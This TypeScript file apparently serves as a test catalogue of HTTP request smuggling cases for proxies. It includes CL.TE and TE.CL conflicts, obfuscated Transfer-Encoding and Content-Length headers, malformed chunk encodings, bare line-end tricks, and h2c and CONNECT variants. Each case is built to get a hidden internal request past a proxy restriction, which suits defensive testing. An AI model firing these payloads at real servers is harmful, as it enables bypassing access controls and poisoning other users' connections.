/** What a client sends on one connection, byte by byte, to the host that is named. */
export interface Attack {
  readonly name: string
  readonly bytes: (host: string) => string
}

const crlf = '\r\n'
const text = (...lines: readonly string[]): string => lines.join(crlf)

/** The request that a restriction of the proxy keeps out: it must never reach the application. */
const hidden = (host: string): string =>
  text('GET /intern/hidden HTTP/1.1', `Host: ${host}`, 'Content-Length: 0', '', '')

/** A request whose head has these fields, with this body. */
const posted =
  (fields: readonly string[], body: (host: string) => string, version = '1.1') =>
  (host: string): string =>
    text(`POST /ok/post HTTP/${version}`, `Host: ${host}`, ...fields, '', '') + body(host)

const chunk = (data: string, size = data.length.toString(16)): string =>
  `${size}${crlf}${data}${crlf}`
const end = `0${crlf}${crlf}`

/** The second request is a body by the chunks, a request of its own by a length of 0. */
const inChunk = (host: string): string => chunk(hidden(host)) + end

/** The second request is after the body by the chunks, inside it by the length. */
const behindChunks = (host: string): string => end + hidden(host)

const lengthOf = (body: (host: string) => string, host: string): number => body(host).length

/** Ways to write a Transfer-Encoding that one parser reads and the other does not. */
const encodings: Readonly<Record<string, readonly string[]>> = {
  plain: ['Transfer-Encoding: chunked'],
  'space before the colon': ['Transfer-Encoding : chunked'],
  'tab before the colon': ['Transfer-Encoding\t: chunked'],
  'tab before the value': ['Transfer-Encoding:\tchunked'],
  'vertical tab before the value': ['Transfer-Encoding:\x0bchunked'],
  'vertical tab behind the value': ['Transfer-Encoding: chunked\x0b'],
  'form feed behind the value': ['Transfer-Encoding: chunked\x0c'],
  'NUL behind the value': ['Transfer-Encoding: chunked\0'],
  'no-break space': ['Transfer-Encoding: \xa0chunked'],
  'space before the name': [' Transfer-Encoding: chunked'],
  'folded value': ['Transfer-Encoding:', ' chunked'],
  'folded second value': ['Transfer-Encoding: identity', ' , chunked'],
  'bare LF before it': ['X-Any: 1\nTransfer-Encoding: chunked'],
  'bare CR before it': ['X-Any: 1\rTransfer-Encoding: chunked'],
  'bare CR inside the name': ['Transfer-\rEncoding: chunked'],
  'two, the last is identity': ['Transfer-Encoding: chunked', 'Transfer-Encoding: identity'],
  'two, the first is identity': ['Transfer-Encoding: identity', 'Transfer-Encoding: chunked'],
  'two, the last is unknown': ['Transfer-Encoding: chunked', 'Transfer-Encoding: cow'],
  'chunked, identity': ['Transfer-Encoding: chunked, identity'],
  'identity, chunked': ['Transfer-Encoding: identity, chunked'],
  'chunked, chunked': ['Transfer-Encoding: chunked, chunked'],
  'gzip, chunked': ['Transfer-Encoding: gzip, chunked'],
  ', chunked': ['Transfer-Encoding: , chunked'],
  capitals: ['TRANSFER-ENCODING: CHUNKED'],
  quoted: ['Transfer-Encoding: "chunked"'],
  parameter: ['Transfer-Encoding: chunked;q=0.5'],
  'unknown word': ['Transfer-Encoding: xchunked'],
  'no value': ['Transfer-Encoding:'],
  underscore: ['Transfer_Encoding: chunked'],
  'no colon': ['Transfer-Encoding chunked'],
  'non-ASCII letter': ['Transfer-Encoding: chun\xe2\x84\xaaed'],
}

const withEncoding: readonly Attack[] = Object.entries(encodings).flatMap(([name, fields]) => [
  {
    name: `CL.TE, Transfer-Encoding: ${name}`,
    bytes: (host) =>
      posted([`Content-Length: ${lengthOf(behindChunks, host)}`, ...fields], behindChunks)(host),
  },
  {
    name: `TE.CL, Transfer-Encoding: ${name}`,
    bytes: (host) => posted(['Content-Length: 0', ...fields], inChunk)(host),
  },
  {
    name: `TE.CL, the length ends behind the size of the chunk, Transfer-Encoding: ${name}`,
    bytes: (host) => {
      const size = hidden(host).length.toString(16)
      return posted([`Content-Length: ${size.length + 2}`, ...fields], inChunk)(host)
    },
  },
  { name: `no length, Transfer-Encoding: ${name}`, bytes: posted(fields, inChunk) },
  {
    name: `HTTP/1.0, Transfer-Encoding: ${name}`,
    bytes: posted(['Connection: keep-alive', 'Content-Length: 0', ...fields], inChunk, '1.0'),
  },
])

/** Lengths of a body that is the hidden request, which differ by parser; LEN is its length. */
const lengths: Readonly<Record<string, readonly string[]>> = {
  'two, the first is 0': ['Content-Length: 0', 'Content-Length: LEN'],
  'two, the last is 0': ['Content-Length: LEN', 'Content-Length: 0'],
  'two alike': ['Content-Length: LEN', 'Content-Length: LEN'],
  'a list, the first is 0': ['Content-Length: 0, LEN'],
  'a list, the last is 0': ['Content-Length: LEN, 0'],
  'plus sign': ['Content-Length: +LEN'],
  'minus sign': ['Content-Length: -LEN'],
  'minus zero': ['Content-Length: -0'],
  'space inside': ['Content-Length: 0 LEN'],
  'tab before it': ['Content-Length:\tLEN'],
  hexadecimal: ['Content-Length: 0xff'],
  'leading zeros': ['Content-Length: 000LEN'],
  underscore: ['Content-Length: 1_0'],
  'more than 64 bits': ['Content-Length: 18446744073709551616'],
  'more than 64 bits by the length': ['Content-Length: 18446744073709551617'],
  'more than 32 bits': ['Content-Length: 4294967296'],
  exponent: ['Content-Length: 1e1'],
  fraction: ['Content-Length: 0.0'],
  empty: ['Content-Length:'],
  'space before the colon': ['Content-Length : LEN'],
  folded: ['Content-Length:', ' LEN'],
  'name with an underscore': ['Content_Length: LEN'],
  'vertical tab': ['Content-Length: \x0bLEN'],
  'NUL behind it': ['Content-Length: 0\0LEN'],
  'bare CR': ['Content-Length: 0\rContent-Length: LEN'],
  'bare LF': ['Content-Length: 0\nContent-Length: LEN'],
  none: [],
}

const withLength: readonly Attack[] = Object.entries(lengths).map(([name, fields]) => ({
  name: `Content-Length: ${name}`,
  bytes: (host) => {
    const length = String(hidden(host).length)
    return posted(
      fields.map((field) => field.replaceAll('LEN', length)),
      hidden,
    )(host)
  },
}))

/** Chunks that one parser ends elsewhere than the other. */
const chunks: Readonly<Record<string, (host: string) => string>> = {
  extension: (host) => `0;a=b${crlf}${crlf}${hidden(host)}`,
  'quoted line end in an extension': (host) => `0;a="\r\n"${crlf}${crlf}${hidden(host)}`,
  'bare LF in an extension': (host) => `2;\nxx${crlf}4e${crlf}${end}${hidden(host)}`,
  'bare CR in an extension': (host) => `2;\rxx${crlf}ab${crlf}${end}${hidden(host)}`,
  'bare LF behind the size': (host) =>
    `${hidden(host).length.toString(16)}\n${hidden(host)}${crlf}${end}`,
  'bare LF behind the data': (host) => `2${crlf}ab\n${end}${hidden(host)}`,
  'no line end behind the data': (host) => `2${crlf}ab${end}${hidden(host)}`,
  'two bytes for the line end': (host) => `2${crlf}abXX0${crlf}${crlf}${hidden(host)}`,
  'bare LF at the end': (host) => `0\n\n${hidden(host)}`,
  'bare CR at the end': (host) => `0\r\r${hidden(host)}`,
  'plus sign': (host) => chunk(hidden(host), `+${hidden(host).length.toString(16)}`) + end,
  'minus zero': (host) => `-0${crlf}${crlf}${hidden(host)}`,
  prefix: (host) => chunk(hidden(host), `0x${hidden(host).length.toString(16)}`) + end,
  'leading zeros': (host) =>
    chunk(hidden(host), `0000000000000000000${hidden(host).length.toString(16)}`) + end,
  'space before the size': (host) =>
    chunk(hidden(host), ` ${hidden(host).length.toString(16)}`) + end,
  'space behind the size': (host) =>
    chunk(hidden(host), `${hidden(host).length.toString(16)} `) + end,
  'words behind the size': (host) =>
    chunk(hidden(host), `0 ${hidden(host).length.toString(16)}`) + end,
  underscore: (host) => chunk(hidden(host), `0_${hidden(host).length.toString(16)}`) + end,
  'more than 64 bits': (host) => chunk(hidden(host), '10000000000000000') + end,
  'more than 64 bits by the length': (host) =>
    chunk(hidden(host), `10000000000000000${hidden(host).length.toString(16)}`) + end,
  'more than 32 bits': (host) =>
    chunk(hidden(host), `1000000${hidden(host).length.toString(16).padStart(2, '0')}`) + end,
  negative: (host) => chunk(hidden(host), 'ffffffffffffffff') + end,
  empty: (host) => `${crlf}${hidden(host)}`,
  'trailer with a length': (host) => `0${crlf}Content-Length: 5${crlf}${crlf}${hidden(host)}`,
  'trailer that is the hidden request': (host) => `0${crlf}${hidden(host)}`,
  'NUL in the size': (host) => chunk(hidden(host), `0\0${hidden(host).length.toString(16)}`) + end,
}

const withChunks: readonly Attack[] = Object.entries(chunks).map(([name, body]) => ({
  name: `chunks: ${name}`,
  bytes: posted(['Transfer-Encoding: chunked'], body),
}))

/** Heads that end, or begin, elsewhere for another parser. */
const heads: Readonly<Record<string, (host: string) => string>> = {
  'bare LF ends a field': (host) =>
    text('GET /ok/a HTTP/1.1', `Host: ${host}`, `X-Any: 1\n\n${hidden(host)}`),
  'bare CR ends a field': (host) =>
    text('GET /ok/a HTTP/1.1', `Host: ${host}`, `X-Any: 1\r\r${hidden(host)}`),
  'LF CR': (host) => text('GET /ok/a HTTP/1.1', `Host: ${host}`, `X-Any: 1\n\r\n\r${hidden(host)}`),
  'NUL in a field': (host) =>
    text('GET /ok/a HTTP/1.1', `Host: ${host}`, `X-Any: 1\0\r\n\r\n${hidden(host)}`),
  'request line in a field': (host) =>
    text('GET /ok/a HTTP/1.1', `Host: ${host}`, 'GET /intern/hidden HTTP/1.1: 1', '', ''),
  'bare CR in the request line': (host) =>
    text(`GET /ok/a HTTP/1.1\rX: 1`, `Host: ${host}`, '', ''),
  'space in the target': (host) =>
    text('GET /ok/a HTTP/1.1 GET /intern/hidden HTTP/1.1', `Host: ${host}`, '', ''),
  'line end in the target': (host) =>
    text(
      'GET /ok/a%20HTTP/1.1%0d%0aHost:x%0d%0a%0d%0aGET%20/intern/hidden HTTP/1.1',
      `Host: ${host}`,
      '',
      '',
    ),
  'body of a GET': (host) =>
    text(
      'GET /ok/a HTTP/1.1',
      `Host: ${host}`,
      `Content-Length: ${hidden(host).length}`,
      '',
      hidden(host),
    ),
  'body of a GET in chunks': (host) =>
    text('GET /ok/a HTTP/1.1', `Host: ${host}`, 'Transfer-Encoding: chunked', '', inChunk(host)),
  'body of a HEAD': (host) =>
    text(
      'HEAD /ok/a HTTP/1.1',
      `Host: ${host}`,
      `Content-Length: ${hidden(host).length}`,
      '',
      hidden(host),
    ),
  'body of a TRACE': (host) =>
    text(
      'TRACE /ok/a HTTP/1.1',
      `Host: ${host}`,
      `Content-Length: ${hidden(host).length}`,
      '',
      hidden(host),
    ),
  'length named in Connection': (host) =>
    text(
      'POST /ok/a HTTP/1.1',
      `Host: ${host}`,
      'Connection: Content-Length',
      `Content-Length: ${hidden(host).length}`,
      '',
      hidden(host),
    ),
  'encoding named in Connection': (host) =>
    text(
      'POST /ok/a HTTP/1.1',
      `Host: ${host}`,
      'Connection: Transfer-Encoding',
      'Transfer-Encoding: chunked',
      '',
      inChunk(host),
    ),
  'Expect with a body': (host) =>
    text(
      'POST /ok/a HTTP/1.1',
      `Host: ${host}`,
      'Expect: 100-continue',
      `Content-Length: ${hidden(host).length}`,
      '',
      hidden(host),
    ),
  'unknown Expect': (host) =>
    text(
      'POST /ok/a HTTP/1.1',
      `Host: ${host}`,
      'Expect: cow',
      `Content-Length: ${hidden(host).length}`,
      '',
      hidden(host),
    ),
  'Expect of a GET': (host) =>
    text(
      'GET /ok/a HTTP/1.1',
      `Host: ${host}`,
      'Expect: 100-continue',
      `Content-Length: ${hidden(host).length}`,
      '',
      hidden(host),
    ),
  'upgrade to h2c': (host) =>
    text(
      'GET /ok/a HTTP/1.1',
      `Host: ${host}`,
      'Connection: Upgrade, HTTP2-Settings',
      'Upgrade: h2c',
      'HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA',
      '',
      hidden(host),
    ),
  'upgrade to an old WebSocket': (host) =>
    text(
      'GET /ok/a HTTP/1.1',
      `Host: ${host}`,
      'Connection: Upgrade',
      'Upgrade: websocket',
      'Sec-WebSocket-Version: 777',
      'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==',
      '',
      hidden(host),
    ),
  'CONNECT to a host': (host) =>
    text('CONNECT internal:80 HTTP/1.1', `Host: ${host}`, '', hidden(host)),
  'CONNECT to a path': (host) => text('CONNECT /ok/a HTTP/1.1', `Host: ${host}`, '', hidden(host)),
  'HTTP/0.9': (host) => `GET /ok/a${crlf}${hidden(host)}`,
  'HTTP/0.9 for the hidden path': () => `GET /intern/hidden${crlf}`,
  'HTTP/1.2': (host) =>
    text(
      'GET /ok/a HTTP/1.2',
      `Host: ${host}`,
      `Content-Length: ${hidden(host).length}`,
      '',
      hidden(host),
    ),
  'HTTP/2.0 as text': (host) =>
    text(
      'GET /ok/a HTTP/2.0',
      `Host: ${host}`,
      `Content-Length: ${hidden(host).length}`,
      '',
      hidden(host),
    ),
  'HTTP/11.1': (host) =>
    text('GET /ok/a HTTP/11.1', `Host: ${host}`, 'Transfer-Encoding: chunked', '', inChunk(host)),
}

/** Everything in which the ends of requests could differ. */
export const framing: readonly Attack[] = [
  ...withEncoding,
  ...withLength,
  ...withChunks,
  ...Object.entries(heads).map(([name, bytes]) => ({ name: `head: ${name}`, bytes })),
]
